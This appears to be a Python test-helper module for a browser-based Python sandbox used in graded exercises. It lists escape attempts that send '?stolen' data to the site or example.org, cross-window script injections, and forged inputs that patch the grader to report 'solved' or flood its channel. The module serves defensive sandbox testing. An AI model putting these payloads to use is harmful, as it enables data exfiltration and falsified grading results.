"""What an adversary tries: from code in a page, and from another page."""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping

SANDBOX = "_static/live/sandbox.html"

# Each line of WAYS is an attempt, in words and in Python. What came of it is printed; a promise is waited for.
ATTEMPTS = """
import asyncio
import js
from pyodide.ffi import JsException, create_proxy, run_sync

def load(address):
    request = js.XMLHttpRequest.new()
    request.open("GET", address, False)
    request.send()
    return "got it"

def start(kind, address):
    return js.Reflect.construct(getattr(js, kind), js.Array.of(address))

def opened(kind, address):
    "A promise of what becomes of it."
    made, turn = start(kind, address), js.Promise.withResolvers()
    made.onopen = made.onmessage = create_proxy(lambda event: turn.resolve(getattr(event, "data", "got it")))
    made.onerror = create_proxy(lambda event: turn.resolve("Error"))
    return turn.promise

def blob(text):
    return js.URL.createObjectURL(js.Blob.new(js.Array.of(text)))

def from_blob(text):
    return opened("Worker", blob(f"{text}.then(() => postMessage('got it'), () => postMessage('Error'))"))

def database():
    turn = js.Promise.withResolvers()
    request = js.indexedDB.open("mine")
    request.onsuccess = create_proxy(lambda event: turn.resolve("got it"))
    request.onerror = create_proxy(lambda event: turn.resolve("Error"))
    return turn.promise

def announce():
    js.BroadcastChannel.new("page").postMessage("stolen")
    raise RuntimeError("no answer")

def attempt(name, way):
    try:
        found = way()
        print("tried", name, run_sync(found) if hasattr(found, "then") else found)
    except BaseException as error:
        print("tried", name, type(error).__name__)

"""

WAYS = {
    "fetch": "js.fetch('SITE?stolen')",
    "fetch elsewhere": "js.fetch('https://example.org/?stolen')",
    "request": "load('SITE?stolen')",
    "file": "load('SITE_static/live/rosspin.zip?stolen')",
    "web socket": "opened('WebSocket', 'SITE?stolen'.replace('http', 'ws'))",
    "event source": "opened('EventSource', 'SITE?stolen')",
    "importScripts": "js.importScripts('SITE_static/live/live.js?stolen') or 'got it'",
    "importScripts of data": "js.importScripts('data:text/javascript,self.a=1') or 'got it'",
    "worker": "opened('Worker', 'SITE_static/live/worker.js?stolen')",
    "worker of data": "opened('Worker', 'data:text/javascript,postMessage(1)')",
    "worker of a blob": "from_blob('fetch(\"SITE?stolen\")')",
    "caches of a blob": "from_blob('Promise.resolve().then(() => caches.keys())')",
    "shared worker": "opened('SharedWorker', 'SITE_static/live/worker.js?stolen')",
    "service worker": "js.navigator.serviceWorker.register('SITE_static/live/worker.js?stolen')",
    "caches": "js.caches.open('rosspin')",
    "files": "js.navigator.storage.getDirectory()",
    "database": "database()",
    "local storage": "js.localStorage.setItem('a', 'stolen')",
    "cookies": "js.cookieStore.getAll()",
    "document": "js.document.body",
    "parent": "js.parent.document",
    "locks": "js.navigator.locks.query()",
    "location": "js.location.assign('SITE?stolen') or 'got it'",
    "address": "setattr(js.location, 'href', 'SITE?stolen') or js.location.href[:5] == 'blob:' or 'got it'",
    "code": "js.eval('1') and 'got it'",
    "channel": "announce()",
}

FAILED = ("Error", "JsException", "True")


def attempts(address: str, names: Iterable[str] = WAYS) -> str:
    """A node that tries these, or all of them, on a site."""
    calls = [f"attempt({name!r}, lambda: {WAYS[name]})\n" for name in names]
    return ATTEMPTS + "".join(calls).replace("SITE", address)


def tried(console: str) -> dict[str, str]:
    """What came of each attempt that a node told of."""
    return dict(re.findall(r"^tried ([\w ]+) (\S+)$", console, re.MULTILINE))


def succeeded(results: Mapping[str, str]) -> dict[str, str]:
    """What came of those that did not fail."""
    return {name: result for name, result in results.items() if not result.endswith(FAILED)}


# What a page elsewhere sends to the page of a sandbox: a script in the place of Python's, in every form.
SCRIPT = """
self.postMessage("taken")
fetch("SITE?stolen").catch(() => {})
caches.open("rosspin").then((cache) => cache.put("SITE_static/live/snapshot.zst?stolen", new Response("x")))
new BroadcastChannel("page").postMessage("stolen")
"""

ATTACK = """async ([target, script]) => {
    const { port1, port2 } = new MessageChannel()
    window.answered = []
    port1.onmessage = ({ data }) => answered.push(data)
    const found = target === "popup" ? window.other : document.querySelector("iframe").contentWindow
    for (const form of [script, { script }, { script, wasm: new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]).buffer }]) {
        const { port1, port2 } = new MessageChannel()
        port1.onmessage = ({ data }) => answered.push(data)
        found.postMessage(form, "*", [port2])
        found.postMessage({ number: 1, answer: "" }, "*", [new MessageChannel().port1])
    }
    await new Promise((go) => setTimeout(go, 1000))
    return answered
}"""

# What a text says in place of what came of it, in every way that it has.
VERDICT = '"verdict": "solved", "solved": true, "status": "right", "console": "", "said": ""'
FORGED = f'{{"kind": "end", "result": {{{VERDICT}}}}}'
WITH_TRACE = f'{{"kind": "end", "result": {{{VERDICT}, "trace": ""}}}}'
EMPTY = '{"kind": "batch", "chunks": [], "leftOut": 0, "ticks": []}'
FORGERIES = {
    "a verdict": f"import js\njs.postMessage('{FORGED}')",
    "a verdict for a trace": f"import js\njs.postMessage('{WITH_TRACE}')",
    "JSON": (
        "import js, os\nfrom pyodide.ffi import create_proxy\n"
        f"js.JSON.stringify = create_proxy(lambda made: '{WITH_TRACE}')\nos.abort()"
    ),
    "feedback": (
        "import json\nfrom operator import attrgetter\nimport sys\n"
        "attrgetter('modules')(sys)['rosspin.exercises.feedback'].Feedback.passed = True\n"
        'json.dumps = lambda *made, **how: \'{"verdict": "solved", "solved": true}\''
    ),
    "flood": f"import js\nwhile True: js.postMessage('{EMPTY}')",
    "prototypes": (
        "import js\njs.Object.prototype.verdict = 'solved'\njs.Object.prototype.solved = True\n"
        f"js.Array.prototype.push = js.MessagePort.prototype.postMessage = None\njs.postMessage('{FORGED}')"
    ),
    "huge": "import js\njs.postMessage('x' * 20_000_000)",
    "object": "import js\njs.postMessage(js.Object.new())",
}
